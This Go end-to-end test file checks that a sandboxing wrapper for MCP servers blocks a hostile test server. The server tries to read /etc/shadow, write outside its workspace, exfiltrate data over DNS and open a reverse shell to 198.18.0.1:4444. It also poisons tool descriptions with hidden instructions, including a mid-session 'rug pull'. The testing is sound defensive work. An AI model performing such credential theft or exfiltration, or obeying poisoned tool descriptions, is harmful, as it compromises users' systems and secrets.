package main

import (
	"context"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/watcherhq/watcher/internal/audit"
	"github.com/watcherhq/watcher/internal/testkit/e2etest"
)

// mcpServersDir is where scripts/setup.sh installs the npm MCP servers.
const mcpServersDir = "/var/cache/watcher/mcp-servers/node_modules/@modelcontextprotocol"

// mcpWrapSession connects the official Go SDK client to `watcher mcp wrap
// ARGS` (the client spawns it, as .mcp.json makes Claude Code do).
func mcpWrapSession(t *testing.T, ctx context.Context, opts *mcp.ClientOptions, env []string, args ...string) *mcp.ClientSession {
	t.Helper()
	cmd := exec.Command(watcherBinary(t), append([]string{"mcp", "wrap"}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	log := &e2etest.SafeBuffer{}
	cmd.Stderr = log
	client := mcp.NewClient(&mcp.Implementation{Name: "watcher-test", Version: "1"}, opts)
	sess, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatalf("connect through watcher mcp wrap: %v\n%s", err, log)
	}
	t.Cleanup(func() {
		sess.Close()
		if t.Failed() {
			t.Logf("watcher mcp wrap stderr:\n%s", log)
		}
	})
	return sess
}

func toolNames(t *testing.T, ctx context.Context, s *mcp.ClientSession) map[string]bool {
	t.Helper()
	res, err := s.ListTools(ctx, nil)
	if err != nil {
		t.Fatalf("tools/list: %v", err)
	}
	out := map[string]bool{}
	for _, tl := range res.Tools {
		out[tl.Name] = true
	}
	return out
}

// callText calls a tool and returns its text content and isError.
func callText(t *testing.T, ctx context.Context, s *mcp.ClientSession, name string, args map[string]any) (string, bool) {
	t.Helper()
	res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("tools/call %s: protocol error %v (a refusal must be a result)", name, err)
	}
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
			b.WriteString("\n")
		}
	}
	return b.String(), res.IsError
}

func wantIn(t *testing.T, what, got string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("%s: want %q in:\n%s", what, w, got)
		}
	}
}

// TestMCPWrapHostile runs a hostile MCP server (testdata/mcp) under
// watcher mcp wrap, driven by the official Go SDK client: each thing it
// tries is refused by the policy or the kernel, or recorded, the model
// reads why, and the client keeps working; its kernel events carry the
// call's label; a changed tool description is hidden and refused, in the
// session and in the next, until accepted.
func TestMCPWrapHostile(t *testing.T) {
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: the hostile server is a Python script")
	}
	tb := newTestbed(t, `    tools:
      mcp:
        max_result_bytes: 65536
        rules:
          - {tool: echo, action: allow, arguments: {text: {max_bytes: 64}}}
          - {tool: junk, action: deny}
          - {tool: "*", action: allow}
`, "{enabled: false}")
	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
	outside := filepath.Join(filepath.Dir(tb.ws), "outside-"+strconv.Itoa(os.Getpid()))
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	changed := make(chan struct{}, 4)
	opts := &mcp.ClientOptions{ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) { changed <- struct{}{} }}
	s := mcpWrapSession(t, ctx, opts, nil, "--policy", tb.policy, "--", py, server)

	names := toolNames(t, ctx, s)
	if !names["echo"] || !names["weather"] || !names["read_credentials"] {
		t.Fatalf("tools/list lost allowed tools: %v", names)
	}
	if names["junk"] {
		t.Errorf("tools/list shows junk, which the policy denies: %v", names)
	}
	// Poisoned from the start: not pinned, hidden, refused.
	if names["notes"] {
		t.Errorf("tools/list shows notes, whose description carries instructions: %v", names)
	}
	txt, isErr := callText(t, ctx, s, "notes", map[string]any{"text": "x"})
	if !isErr {
		t.Errorf("notes ran: %q", txt)
	}
	wantIn(t, "poisoned description", txt, "rule: mcp:suspicious-description", "hidden-instructions")

	// Allowed, then the argument constraint (the policy's, not the kernel's).
	if txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "hi"}); isErr || strings.TrimSpace(txt) != "hi" {
		t.Errorf("echo: %q isError=%v", txt, isErr)
	}
	// The first call made the server change weather's description.
	select {
	case <-changed:
	case <-time.After(10 * time.Second):
		t.Error("no notifications/tools/list_changed passed on")
	}
	txt, isErr = callText(t, ctx, s, "echo", map[string]any{"text": strings.Repeat("x", 100)})
	if !isErr {
		t.Errorf("echo of 100 bytes passed the policy's max_bytes 64: %q", txt)
	}
	wantIn(t, "echo over max_bytes", txt, "over the policy's 64", "rule: mcp:echo", "to allow it")

	// The rug pull: weather's description now carries instructions.
	names = toolNames(t, ctx, s)
	if names["weather"] {
		t.Error("weather is still listed after its description changed")
	}
	txt, isErr = callText(t, ctx, s, "weather", map[string]any{"city": "Oslo"})
	if !isErr {
		t.Errorf("weather called after a rug pull: %q", txt)
	}
	wantIn(t, "rug pull", txt, "changed since it was approved", "rule: mcp:pin", "--accept-changes")

	// Denied by the policy even when the client calls it unlisted.
	txt, isErr = callText(t, ctx, s, "junk", nil)
	if !isErr {
		t.Errorf("junk ran: %q", txt)
	}
	wantIn(t, "denied tool", txt, "the policy denies tool", "rule: mcp:junk")

	// Credentials: refused by the kernel, and the model reads the summary.
	txt, _ = callText(t, ctx, s, "read_credentials", nil)
	wantIn(t, "read_credentials", txt, "shadow failed", "the kernel refused", "/etc/shadow", "cred-shadow")

	txt, _ = callText(t, ctx, s, "write_outside", map[string]any{"path": outside})
	wantIn(t, "write_outside", txt, "write failed", outside)
	if _, err := os.Stat(outside); err == nil {
		os.Remove(outside)
		t.Errorf("the server wrote %s outside its workspace", outside)
	}
	txt, _ = callText(t, ctx, s, "dns_exfil", map[string]any{"data": "s3cret"})
	wantIn(t, "dns_exfil", txt, "dns failed")
	txt, _ = callText(t, ctx, s, "reverse_shell", map[string]any{"host": "198.18.0.1", "port": "4444"})
	wantIn(t, "reverse_shell", txt, "reverse shell failed")

	// Floods: a result over the cap is cut, a message over the frame cap
	// dropped; both answered.
	txt, _ = callText(t, ctx, s, "flood", map[string]any{"n": 1 << 20})
	if len(txt) > 70000 {
		t.Errorf("flood result is %d bytes, over the 65536 cap", len(txt))
	}
	wantIn(t, "flood", txt, "over the cap of 65536")
	txt, isErr = callText(t, ctx, s, "flood_frame", map[string]any{"n": 9 << 20})
	if !isErr {
		t.Error("flood_frame: no error result")
	}
	wantIn(t, "flood_frame", txt, "over the cap of 4194304", "dropped")

	// The client keeps working.
	if txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "still here"}); isErr || !strings.Contains(txt, "still here") {
		t.Errorf("echo after the hostile calls: %q isError=%v", txt, isErr)
	}
	s.Close()

	// Next session: the changed definition is still refused (pinned on
	// disk), until the user accepts it.
	s2 := mcpWrapSession(t, ctx, nil, []string{"HOSTILE_RUG_PULL=1"}, "--policy", tb.policy, "--", py, server)
	if toolNames(t, ctx, s2)["weather"] {
		t.Error("a new session lists the changed weather tool")
	}
	s2.Close()
	s3 := mcpWrapSession(t, ctx, nil, []string{"HOSTILE_RUG_PULL=1"}, "--policy", tb.policy, "--accept-changes", "--", py, server)
	if names := toolNames(t, ctx, s3); !names["weather"] || !names["notes"] {
		t.Errorf("--accept-changes did not approve the changed weather and the suspicious notes: %v", names)
	}
	if txt, isErr := callText(t, ctx, s3, "weather", map[string]any{"city": "Oslo"}); isErr {
		t.Errorf("weather after --accept-changes: %q", txt)
	}
	s3.Close()

	// The ledger: requests, decisions, results, pins; the kernel's refusal
	// of /etc/shadow carries the label of the call that caused it.
	evs := ledgerEvents(t, tb.ledger)
	var credLabel string
	stages := map[string]int{}
	pinChanged, suspect := false, false
	for _, e := range evs {
		if e.Kind != audit.KindTool || e.Mechanism != "mcp-wrap" || e.Tool == nil {
			continue
		}
		stages[e.Tool.Stage]++
		if e.Tool.Tool == "read_credentials" && e.Tool.Stage == "result" {
			credLabel = e.Sandbox.Labels["label"]
		}
		suspect = suspect || (e.Tool.Stage == "pin" && e.Tool.Decision == "suspicious" && e.Tool.Tool == "notes")
		if e.Tool.Stage == "pin" && e.Tool.Decision == "changed" && e.Tool.Tool == "weather" {
			pinChanged = true
			wantIn(t, "pin record", e.Tool.Reason, "IMPORTANT", "was:")
		}
	}
	for _, st := range []string{"request", "decision", "result", "pin"} {
		if stages[st] == 0 {
			t.Errorf("no %s records of mcp wrap in the ledger (have %v)", st, stages)
		}
	}
	if !pinChanged || !suspect {
		t.Errorf("recorded: the rug pull %v, the poisoned description %v", pinChanged, suspect)
	}
	if !strings.Contains(credLabel, ".call-") {
		t.Fatalf("read_credentials' result carries label %q, want SESSION.call-N", credLabel)
	}
	found := false
	for _, e := range evs {
		if e.Kind != audit.KindTool && e.Sandbox.Labels["label"] == credLabel && strings.Contains(detailText(&e), "/etc/shadow") {
			found = true
		}
	}
	if !found {
		t.Errorf("no kernel event of /etc/shadow labelled %s in the ledger", credLabel)
	}
	// One call from request to syscall: watcher replay --call LABEL.
	out, code := tb.watcher("replay", "--call", credLabel, tb.ledger)
	if code != 0 {
		t.Fatalf("watcher replay --call %s: exit %d\n%s", credLabel, code, out)
	}
	wantIn(t, "replay", out, "tool=read_credentials request", "decision=allow", "/etc/shadow", "tool=read_credentials result")
	if strings.Index(out, "request") > strings.Index(out, "/etc/shadow") || strings.Index(out, "/etc/shadow") > strings.Index(out, "tool=read_credentials result") {
		t.Errorf("replay is not in the order request, kernel event, result:\n%s", out)
	}
}

// TestMCPWrapFilesystem runs the reference filesystem server from npm
// under watcher mcp wrap: its workspace works; /etc/shadow, which the
// server itself would serve (it is given /etc), is refused by the kernel
// and the model reads the summary.
func TestMCPWrapFilesystem(t *testing.T) {
	entry := filepath.Join(mcpServersDir, "server-filesystem", "dist", "index.js")
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("node not installed (scripts/setup.sh installs it)")
	}
	if _, err := os.Stat(entry); err != nil {
		t.Skip("@modelcontextprotocol/server-filesystem not installed in " + mcpServersDir + " (scripts/setup.sh installs it)")
	}
	tb := newTestbed(t, "", "{enabled: false}")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s := mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", node, entry, tb.ws, "/etc")
	names := toolNames(t, ctx, s)
	if !names["write_file"] || !names["read_text_file"] {
		t.Fatalf("tools/list: %v", names)
	}
	note := filepath.Join(tb.ws, "note.txt")
	if txt, isErr := callText(t, ctx, s, "write_file", map[string]any{"path": note, "content": "caged\n"}); isErr {
		t.Fatalf("write_file in the workspace: %s", txt)
	}
	if b, _ := os.ReadFile(note); string(b) != "caged\n" {
		t.Errorf("the workspace file holds %q", b)
	}
	if txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": note}); isErr || !strings.Contains(txt, "caged") {
		t.Errorf("read_text_file in the workspace: %q isError=%v", txt, isErr)
	}
	txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": "/etc/shadow"})
	if !isErr {
		t.Errorf("/etc/shadow was read: %q", txt)
	}
	wantIn(t, "/etc/shadow", txt, "the kernel refused", "/etc/shadow", "cred-shadow")
	if txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": "/etc/hostname"}); isErr {
		t.Errorf("/etc/hostname (readable under the preset): %q", txt)
	}
}

// TestMCPWrapEverything runs the reference everything server from npm,
// over stdio under the cage and over Streamable HTTP with --url.
func TestMCPWrapEverything(t *testing.T) {
	entry := filepath.Join(mcpServersDir, "server-everything", "dist", "index.js")
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("node not installed (scripts/setup.sh installs it)")
	}
	if _, err := os.Stat(entry); err != nil {
		t.Skip("@modelcontextprotocol/server-everything not installed in " + mcpServersDir + " (scripts/setup.sh installs it)")
	}
	tb := newTestbed(t, `    tools:
      mcp:
        rules:
          - {tool: echo, action: allow}
          - {tool: get-sum, action: allow}
`, "{enabled: false}")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	check := func(s *mcp.ClientSession, how string) {
		names := toolNames(t, ctx, s)
		if !names["echo"] || len(names) != 2 {
			t.Errorf("%s: tools/list shows %v, want echo and get-sum only", how, names)
		}
		txt, isErr := callText(t, ctx, s, "echo", map[string]any{"message": "through the cage"})
		if isErr || !strings.Contains(txt, "through the cage") {
			t.Errorf("%s: echo: %q isError=%v", how, txt, isErr)
		}
		txt, isErr = callText(t, ctx, s, "get-env", nil)
		if !isErr {
			t.Errorf("%s: get-env (no rule) ran: %q", how, txt)
		}
		wantIn(t, how+": get-env", txt, "default-deny")
	}
	check(mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", node, entry, "stdio"), "stdio")

	port := e2etest.FreePort(t)
	srv := exec.Command(node, entry, "streamableHttp")
	srv.Env = append(os.Environ(), "PORT="+strconv.Itoa(port))
	p := e2etest.Start(t, srv)
	url := "http://127.0.0.1:" + strconv.Itoa(port) + "/mcp"
	if err := p.WaitReady(30*time.Second, func() bool { return strings.Contains(p.Log.String(), "listening") }); err != nil {
		t.Fatalf("everything server over HTTP: %v\n%s", err, p.Log)
	}
	check(mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--url", url), "--url")
}

// TestMCPWrapNetworkAllowlist: a Python MCP server under wrap reaches a
// name the sandbox's DNS allowlist has, and no other; the refused names
// are in the ledger within the call that asked for them.
func TestMCPWrapNetworkAllowlist(t *testing.T) {
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: the server is a Python script")
	}
	// A real HTTP server on loopback, and an upstream resolver that maps
	// every name to it: only the allowlist stands between.
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "hello from "+r.Host) }))
	defer web.Close()
	_, port, _ := net.SplitHostPort(web.Listener.Addr().String())
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	dnsSrv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		if len(q.Question) == 1 && q.Question[0].Qtype == dns.TypeA {
			rr, _ := dns.NewRR(q.Question[0].Name + " 5 IN A 127.0.0.1")
			m.Answer = append(m.Answer, rr)
		}
		w.WriteMsg(m)
	})}
	go dnsSrv.ActivateAndServe()
	defer dnsSrv.Shutdown()

	w := e2etest.New(t, "mcpnet")
	w.DNSUpstreams = []string{strconv.Quote(pc.LocalAddr().String())}
	ws := filepath.Join(w.Base, "ws")
	os.MkdirAll(ws, 0o755)
	pol := filepath.Join(w.AgentDir, "policy.yaml")
	os.WriteFile(pol, []byte(w.PolicyHead("")+`  - name: mcp
    select: {cgroups: [`+w.Cgroup+`]}
    preset: restricted
    workspace: [`+ws+`]
    dns:
      allow: [allowed.test]
    egress:
      allow:
        - {cidr: 127.0.0.1/32, ports: [`+port+`]}
`), 0o600)
	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s := mcpWrapSession(t, ctx, nil, nil, "--policy", pol, "--", py, server)
	toolNames(t, ctx, s)
	txt, _ := callText(t, ctx, s, "fetch", map[string]any{"url": "http://allowed.test:" + port + "/"})
	wantIn(t, "allowed name", txt, "fetch ok: hello from allowed.test")
	txt, _ = callText(t, ctx, s, "fetch", map[string]any{"url": "http://elsewhere.test:" + port + "/"})
	wantIn(t, "name not on the allowlist", txt, "fetch failed")
	txt, _ = callText(t, ctx, s, "dns_exfil", map[string]any{"data": "s3cret"})
	wantIn(t, "dns exfil", txt, "dns failed")
	s.Close()

	// The proxy's events have no process: they sit in the ledger between
	// the records of the call that caused them.
	exfil := hex.EncodeToString([]byte("s3cret"))
	evs := ledgerEvents(t, w.Ledger)
	var from, to time.Time
	for _, e := range evs {
		if e.Kind == audit.KindTool && e.Tool != nil && e.Tool.Tool == "dns_exfil" {
			switch e.Tool.Stage {
			case "request":
				from = e.Time
			case "result":
				to = e.Time
			}
		}
	}
	var sawElsewhere, sawExfil bool
	for _, e := range evs {
		if e.Kind != audit.KindDNS || e.Verdict != audit.VerdictDenied {
			continue
		}
		d := detailText(&e)
		if strings.Contains(d, "elsewhere.test") {
			sawElsewhere = true
		}
		if strings.Contains(d, exfil) {
			sawExfil = true
			if e.Time.Before(from) || e.Time.After(to) {
				t.Errorf("the exfiltration query at %v is outside its call (%v to %v)", e.Time, from, to)
			}
		}
	}
	if !sawElsewhere || !sawExfil {
		t.Errorf("refused names in the ledger: elsewhere.test %v, exfiltration %v", sawElsewhere, sawExfil)
	}
}

// TestMCPWrapApprove: a call the policy asks about waits for `watcher
// approve` (the private agent's approvals socket), then runs; one denied
// with `watcher deny` comes back as an error result naming the reason.
func TestMCPWrapApprove(t *testing.T) {
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: the test server is a Python script")
	}
	tb := newTestbed(t, `    tools:
      mcp:
        ask_timeout: 60s
        rules:
          - {tool: echo, action: ask}
`, "{enabled: false}")
	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s := mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", py, server)
	if names := toolNames(t, ctx, s); len(names) != 1 || !names["echo"] {
		t.Fatalf("tools/list: %v, want echo only", names)
	}
	socks, _ := filepath.Glob(filepath.Join(tb.socketDir, "exec-*", "gateway.sock"))
	if len(socks) != 1 {
		t.Fatalf("approvals sockets of the private agent: %v", socks)
	}
	for _, c := range []struct {
		decide []string
		want   string
		isErr  bool
	}{
		{[]string{"approve"}, "approve me", false},
		{[]string{"deny", "--reason", "not this one"}, "not this one", true},
	} {
		res := make(chan string, 1)
		go func() {
			txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "approve me"})
			res <- txt + " isError=" + strconv.FormatBool(isErr)
		}()
		var id string
		for i := 0; i < 100 && id == ""; i++ {
			out, _ := tb.watcher("approvals", "--socket", socks[0], "--json")
			if f := strings.Split(out, `"id":"`); len(f) > 1 {
				id, _, _ = strings.Cut(f[1], `"`)
			} else {
				time.Sleep(100 * time.Millisecond)
			}
		}
		if !strings.HasPrefix(id, "agents/mcp-") || !strings.Contains(id, ".call-") {
			t.Fatalf("no pending call listed by watcher approvals (id %q)", id)
		}
		if out, code := tb.watcher(append(append(c.decide, "--socket", socks[0]), id)...); code != 0 {
			t.Fatalf("watcher %s %s: %s", c.decide[0], id, out)
		}
		got := <-res
		wantIn(t, c.decide[0], got, c.want, "isError="+strconv.FormatBool(c.isErr))
	}
}

// TestMCPWrapRunningAgent: with `watcher run` up, the wrapped server runs
// under that agent's policy and sandbox, the relay's records go to its
// ledger, and the kernel's refusals reach the model through its event
// stream; an ask rule waits on the agent's approvals socket.
func TestMCPWrapRunningAgent(t *testing.T) {
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: the test server is a Python script")
	}
	tb := newTestbed(t, `    tools:
      mcp:
        rules:
          - {tool: weather, action: ask}
          - {tool: "*", action: allow}
`, "{enabled: false}")
	tb.startAgent()
	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s := mcpWrapSession(t, ctx, nil, nil, "--socket", tb.ControlSocket(), "--sandbox", "agents", "--", py, server)
	toolNames(t, ctx, s)
	if txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "via the agent"}); isErr || !strings.Contains(txt, "via the agent") {
		t.Errorf("echo: %q isError=%v", txt, isErr)
	}
	txt, _ := callText(t, ctx, s, "read_credentials", nil)
	wantIn(t, "read_credentials", txt, "shadow failed", "the kernel refused", "/etc/shadow")
	// The ask waits on the agent's own approvals socket.
	res := make(chan string, 1)
	go func() {
		txt, isErr := callText(t, ctx, s, "weather", map[string]any{"city": "Oslo"})
		res <- txt + " isError=" + strconv.FormatBool(isErr)
	}()
	sock := filepath.Join(tb.socketDir, "gateway.sock")
	var id string
	for i := 0; i < 100 && id == ""; i++ {
		out, _ := tb.watcher("approvals", "--socket", sock, "--json")
		if f := strings.Split(out, `"id":"`); len(f) > 1 {
			id, _, _ = strings.Cut(f[1], `"`)
		} else {
			time.Sleep(100 * time.Millisecond)
		}
	}
	if out, code := tb.watcher("approve", "--socket", sock, id); code != 0 {
		t.Fatalf("watcher approve %q on the agent's socket: %s", id, out)
	}
	wantIn(t, "ask under a running agent", <-res, "sunny in Oslo", "isError=false")
	s.Close()
	tb.stopAgent(syscall.SIGTERM)
	n := 0
	for _, e := range ledgerEvents(t, tb.ledger) {
		if e.Kind == audit.KindTool && e.Mechanism == "mcp-wrap" && e.Tool != nil && e.Tool.Tool == "echo" {
			n++
		}
	}
	if n < 3 {
		t.Errorf("%d records of the echo call in the agent's ledger, want request, decision and result", n)
	}
}

// TestMCPWrapOverlap: while two calls are with the server at once, its
// kernel events carry both (SESSION.calls-N.M) and say so; the refusal
// still reaches the model in the call that caused it.
func TestMCPWrapOverlap(t *testing.T) {
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: the test server is a Python script")
	}
	tb := newTestbed(t, "", "{enabled: false}")
	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s := mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", py, server)
	toolNames(t, ctx, s)
	slow := make(chan string, 1)
	go func() {
		txt, _ := callText(t, ctx, s, "slow", map[string]any{"seconds": "3"})
		slow <- txt
	}()
	time.Sleep(500 * time.Millisecond) // the slow call is with the server
	txt, _ := callText(t, ctx, s, "read_credentials", nil)
	wantIn(t, "read_credentials during slow", txt, "shadow failed", "the kernel refused", "/etc/shadow")
	wantIn(t, "slow", <-slow, "slept 3s")
	s.Close()

	var credLabel string
	evs := ledgerEvents(t, tb.ledger)
	for _, e := range evs {
		if e.Kind == audit.KindTool && e.Tool != nil && e.Tool.Tool == "read_credentials" && e.Tool.Stage == "result" {
			credLabel = e.Sandbox.Labels["label"]
		}
	}
	if !strings.HasSuffix(credLabel, ".calls-1.2") {
		t.Fatalf("read_credentials ran beside slow: label %q, want SESSION.calls-1.2", credLabel)
	}
	found := false
	for _, e := range evs {
		if e.Kind != audit.KindTool && e.Sandbox.Labels["label"] == credLabel && strings.Contains(detailText(&e), "/etc/shadow") {
			found = true
		}
	}
	if !found {
		t.Errorf("no kernel event of /etc/shadow labelled %s", credLabel)
	}
}
